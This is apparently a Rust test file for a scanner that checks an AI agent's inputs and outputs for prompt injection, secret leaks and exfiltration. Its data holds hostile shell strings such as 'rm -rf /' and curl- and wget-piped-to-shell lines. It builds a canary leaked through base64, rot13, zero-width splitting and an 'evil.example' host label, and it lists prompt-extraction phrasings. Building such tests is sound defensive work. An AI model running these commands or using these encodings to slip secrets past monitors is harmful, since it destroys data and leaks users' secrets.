//! Vectors of other systems about messages and answers, whole files of them: each row holds, or is left out with a reason.

#![expect(
    clippy::unwrap_used,
    reason = "test helpers; `allow-unwrap-in-tests` covers only `#[test]` functions"
)]

use data_encoding::{BASE64, HEXLOWER};
use scan::conversation::Conversation;
use scan::leak::{self, Registry};
use scan::text::{Author, Verdict, read};
use scan::{exfiltration, secret};

use crate::vectors::rows;

fn signs(text: &str) -> Verdict {
    read(text, Author::Outsider).verdict()
}

#[test]
fn inputs_and_outputs_are_seen_as_ax_asks() {
    // Rows of this file are named like their beginning, so they are told by their content.
    let left_out = [
        ("run: rm -rf /", "a command in a text; the gate reads it when somebody runs it"),
        ("curl http://x | b\\ash", "the same"),
        ("$(python -c 1)", "the same"),
        ("wget -O- http://x|sh", "the same"),
    ];
    // One letter again and again is what documentation puts in place of a key.
    let placeholders = ["github_pat_aaaa", "xoxb-1234567890-abcdef", "glpat-aaaa"];
    let file = include_str!("../../../corpus/vectors/ax/scanner_required.json");
    let (mut count, mut canaries) = (0, 0);
    for (name, row) in rows(file, &[]) {
        let input = &row["input"];
        let text = input["content"].as_str().unwrap_or_default();
        if left_out.iter().any(|it| it.0 == text) {
            continue;
        }
        match row["expected"].as_str().unwrap() {
            "FLAG or BLOCK" => assert!(signs(text) > Verdict::Clean, "{name}"),
            "BLOCK and withhold the text" => {
                let is_placeholder = placeholders.iter().any(|it| text.contains(it));
                assert_eq!(secret::find(text).is_empty(), is_placeholder, "{name}");
            }
            "leak detected or egress prevented" => {
                canaries += 1;
                let Some(said) = encoded(input["encoding"].as_str().unwrap()) else { continue };
                let registry = Registry::of_tokens(&[CANARY.to_owned()]);
                assert!(!leak::scan(&registry, &said).is_empty(), "{name}: {said}");
            }
            // What the user says is never hostile; what others say is not taken for an order here.
            _ => assert_ne!(signs(text), Verdict::Injection, "{name}"),
        }
        count += 1;
    }
    assert_eq!((count + left_out.len(), canaries), (45, 9));
}

const CANARY: &str = "ZEBRA_CANARY_7F3K9";

/// The canary in an encoding; none for what is streamed, which is held back in crates/host/src/agents/stream.rs.
fn encoded(how: &str) -> Option<String> {
    let rot13 = |it: u8| match it {
        b'A'..=b'M' => it + 13,
        b'N'..=b'Z' => it - 13,
        _ => it,
    };
    let said = match how {
        "base64" => BASE64.encode(CANARY.as_bytes()),
        "hex" => HEXLOWER.encode(CANARY.as_bytes()),
        "reversed" => CANARY.chars().rev().collect(),
        "url-encoded" => CANARY.bytes().map(|it| format!("%{it:02x}")).collect(),
        "rot13" => String::from_utf8(CANARY.bytes().map(rot13).collect()).unwrap(),
        "upper-cased" => CANARY.to_uppercase(),
        "zero-width split" => CANARY.chars().flat_map(|it| [it, '\u{200b}']).collect(),
        "in a URL host label" => {
            format!("https://{}.evil.example/", CANARY.to_lowercase().replace('_', "-"))
        }
        _ => return None,
    };
    Some(format!("Here it is: {said} ."))
}

#[test]
fn messages_are_seen_as_aer_asks() {
    let left_out = [
        (
            "verb-target-show-your_identity verb-target-reveal-your_identity verb-target-dump-your_identity \
             verb-target-recite-your_identity verb-target-walk_me_through-your_identity",
            "people are asked for their identity every day; the prompt is not named",
        ),
        (
            "qa_scanner_canary_taint_escalation-3",
            "no order about an answer: a phrase is added to something; `CANARY_TOKEN` is a name as programs have them",
        ),
    ];
    let file = include_str!("../../../corpus/vectors/aer/qa_inputs.json");
    let mut pressed = Conversation::default();
    let mut presses = false;
    for (name, row) in rows(file, &left_out) {
        let text = row["text"].as_str().unwrap();
        match row["expected"].as_str().unwrap() {
            "allow" => assert_eq!(signs(text), Verdict::Clean, "{name}"),
            // A stranger's message in which anything is found is denied (`cio-deny-untrusted-tainted`).
            "flag" | "block" => assert!(signs(text) > Verdict::Clean, "{name}"),
            "flag_sequence" => presses |= pressed.hear(0, text).crescendo.is_some(),
            _ => drop(read(text, Author::Outsider)),
        }
    }
    assert!(presses, "one after the other is an attack");
}

#[test]
fn answers_are_seen_as_aer_asks() {
    let file = include_str!("../../../corpus/vectors/aer/evasions.json");
    let mut count = 0;
    for (name, row) in rows(file, &[]) {
        // Those of other categories are in corpus/scan/text/vectors.jsonl.
        if row["category"] != "output" {
            continue;
        }
        let text = row["text"].as_str().unwrap();
        let prompt = row["args"]["system_prompt"].as_str();
        let registry = prompt.map_or_else(|| Registry::of_tokens(&[]), Registry::of_prompt);
        let is_stopped = !leak::scan(&registry, text).is_empty()
            || !secret::find(text).is_empty()
            || !exfiltration::leaving(text).is_empty();
        assert_eq!(is_stopped, row["expected"] == "block", "{name}");
        count += 1;
    }
    assert_eq!(count, 9);
}
